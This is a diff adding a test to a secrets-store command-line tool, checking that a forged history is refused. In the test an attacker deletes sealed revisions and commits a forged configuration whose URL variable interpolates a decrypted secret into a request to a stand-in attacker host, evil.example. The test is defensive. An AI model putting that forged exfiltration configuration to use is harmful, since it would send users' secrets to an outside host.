@@ -1,3 +1,4 @@
+import { execFileSync } from 'node:child_process'
 import { copyFileSync, cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { expect } from 'chai'
@@ -161,5 +162,47 @@ describe('a store that somebody without the key has changed, seen through the pr
     const checked = await program.esc(['check'])
     expect(checked.code).to.equal(1)
     expect(checked.out).to.include('revisions/2.yaml')
+  })
+
+  it('the sealed revisions removed and another first one pushed: refused in every fresh clone, with the key and without', async () => {
+    const git = (cwd: string, ...words: string[]) =>
+      execFileSync('git', ['-c', 'user.name=Eve', '-c', 'user.email=eve@example.com', ...words], {
+        cwd,
+        encoding: 'utf8',
+      })
+    const [ciphertext] = ciphertexts(revision(4)) as [string]
+    const [record] = readFileSync(revision(1), 'utf8').split('---\n')
+    for (const number of [2, 3, 4]) rmSync(revision(number))
+    const forged = `values:\n  environmentVariables: {URL: "https://evil.example/\${stolen}"}\n  stolen: {fn::secret: {ciphertext: ${ciphertext}}}\n`
+    writeFileSync(revision(1), `${record}---\n${forged}`)
+    writeFileSync(path('app/dev/environment.yaml'), forged)
+    git(program.store, 'init', '-q')
+    git(program.store, 'add', '-A')
+    git(program.store, 'commit', '-qm', 'a harmless change')
+    const noKey = { ESC_CONFIG_HOME: join(program.folder, 'nobody') }
+    let clones = 0
+    for (const [words, withoutKey] of [
+      [['open', 'app/dev'], true],
+      [['open', 'app/dev@1'], true],
+      [['env', 'get', 'app/dev'], true],
+      [['env', 'get', 'app/dev', '--show-secrets'], true],
+      [['env', 'version', 'history', 'app/dev'], true],
+      [['env', 'set', 'app/dev', 'c', '1'], true],
+      [['env', 'save', 'app/dev'], true],
+      [['check'], true],
+      [['env', 'trust', 'app/dev', '--yes'], false],
+      [['run', 'app/dev', '--', 'true'], false],
+    ] as const) {
+      for (const env of withoutKey ? [{}, noKey] : [{}]) {
+        const clone = join(program.folder, `clone-${++clones}`)
+        git(program.folder, 'clone', '-q', program.store, clone)
+        const ran = await program.esc([words[0], '--store', clone, ...words.slice(1)], env)
+        const shown = ran.out + ran.err
+        expect(ran.code, words.join(' ')).to.equal(1)
+        expect(shown, words.join(' ')).to.include('revisions/1.yaml')
+        expect(shown).to.not.match(/evil\.example\/(?:first|second)/)
+        expect(git(clone, 'status', '--porcelain')).to.equal('')
+      }
+    }
   })
 })
